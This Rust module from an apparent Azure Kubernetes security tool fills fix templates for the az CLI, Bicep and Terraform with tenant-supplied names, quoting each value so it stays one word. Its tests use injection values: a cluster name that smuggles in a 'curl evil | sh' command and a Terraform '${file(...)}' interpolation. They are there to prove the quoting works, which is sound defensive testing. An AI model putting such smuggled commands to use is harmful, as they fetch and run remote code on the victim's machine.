//! Writes the fix for one finding, in the languages people apply it in.
//!
//! Names come from a tenant and are quoted for the language they land in: what a person pastes into a shell must be one
//! command, whatever a cluster is called. Nothing here is ever run.

mod blocks;
mod code;
mod guardrails;
mod labels;
mod place;
mod quote;
mod steps;
#[cfg(test)]
mod testing;
mod versions;

pub use code::{CodeFile, remedy_as_code};
pub use guardrails::{GUARDRAILS, Guardrail, guardrail_files};
pub use steps::step_text;

use quay_model::{ArmId, Fix, FixText, Verdict};
use quote::{bicep, shell, terraform};

/// What the placeholders of a fix stand for.
struct Names {
    subscription: String,
    group: String,
    cluster: String,
    binding: String,
    location: String,
    id: String,
}

/// The fix of a rule for the resource of one verdict. `location` is where its cluster runs.
pub fn fix_for(fix: &Fix, verdict: &Verdict, location: &str) -> FixText {
    let cluster = ArmId::parse(&verdict.cluster_id);
    let resource = ArmId::parse(&verdict.resource_id);
    let is_binding = verdict.resource_id != verdict.cluster_id;
    let names = Names {
        subscription: cluster.as_ref().map(|id| id.subscription().to_owned()).unwrap_or_default(),
        group: cluster.as_ref().and_then(|id| id.resource_group().map(str::to_owned)).unwrap_or_default(),
        cluster: cluster.as_ref().map(|id| id.name().to_owned()).unwrap_or_default(),
        binding: resource.filter(|_| is_binding).map_or_else(|| "BINDING".to_owned(), |id| id.name().to_owned()),
        location: location.to_owned(),
        id: verdict.cluster_id.to_string(),
    };
    FixText {
        what_to_do: fix.what_to_do.to_owned(),
        cli: fill(fix.cli, &names, shell),
        bicep: fill(fix.bicep, &names, bicep),
        terraform: fill(fix.terraform, &names, terraform),
        caution: fix.caution.to_owned(),
        look: fill(fix.look, &names, shell),
    }
}

/// One pass over the template, so that a name that looks like a placeholder is not filled in again.
fn fill(template: &str, names: &Names, quote: fn(&str) -> String) -> String {
    let mut filled = String::with_capacity(template.len() + 64);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        let (before, from) = rest.split_at(open);
        filled.push_str(before);
        let placeholder = from.get(1..).and_then(|inner| inner.split_once('}'));
        let value = placeholder.and_then(|(name, after)| {
            let value = match name {
                "subscription" => &names.subscription,
                "group" => &names.group,
                "cluster" => &names.cluster,
                "binding" => &names.binding,
                "location" => &names.location,
                "id" => &names.id,
                _ => return None,
            };
            Some((value, after))
        });
        if let Some((value, after)) = value {
            filled.push_str(&quote(value));
            rest = after;
        } else {
            filled.push('{');
            rest = from.get(1..).unwrap_or_default();
        }
    }
    filled.push_str(rest);
    filled
}

#[cfg(test)]
mod tests {
    use super::*;
    use quay_model::{Outcome, Severity};

    const FIX: Fix = Fix {
        what_to_do: "",
        cli: "az aks update -g {group} -n {cluster} --query '{a: b}'",
        bicep: "resource aks { name: '{cluster}' }",
        terraform: "name = \"{binding}\"",
        caution: "",
        look: "az aks show -n {cluster}",
    };

    fn verdict(cluster: &str, binding: &str) -> Verdict {
        let cluster_id =
            format!("/subscriptions/s/resourceGroups/g/providers/Microsoft.ContainerService/managedClusters/{cluster}");
        let resource_id = if binding.is_empty() {
            cluster_id.clone()
        } else {
            format!("{cluster_id}/trustedAccessRoleBindings/{binding}")
        };
        Verdict {
            rule: "X".into(),
            resource_id: resource_id.into(),
            cluster_id: cluster_id.into(),
            instance: "".into(),
            verdict: Outcome::Fail,
            severity: Severity::Low,
            reason: "".into(),
            evidence: Box::default(),
        }
    }

    #[test]
    fn names_are_filled_in_and_other_braces_left_alone() {
        let text = fix_for(&FIX, &verdict("prod-1", "b1"), "westeurope");
        assert_eq!(text.cli, "az aks update -g g -n prod-1 --query '{a: b}'");
        assert_eq!(text.bicep, "resource aks { name: 'prod-1' }");
        assert_eq!(text.terraform, "name = \"b1\"");
    }

    #[test]
    fn a_hostile_name_stays_one_word() {
        let text = fix_for(&FIX, &verdict("x; curl evil | sh '{group}'", "${file(1)}\""), "");
        assert!(text.cli.contains("-n 'x; curl evil | sh '\\''{group}'\\'''"), "{}", text.cli);
        assert!(text.bicep.contains("\\'{group}\\'"), "{}", text.bicep);
        assert_eq!(text.terraform, "name = \"$${file(1)}\\\"\"");
    }
}
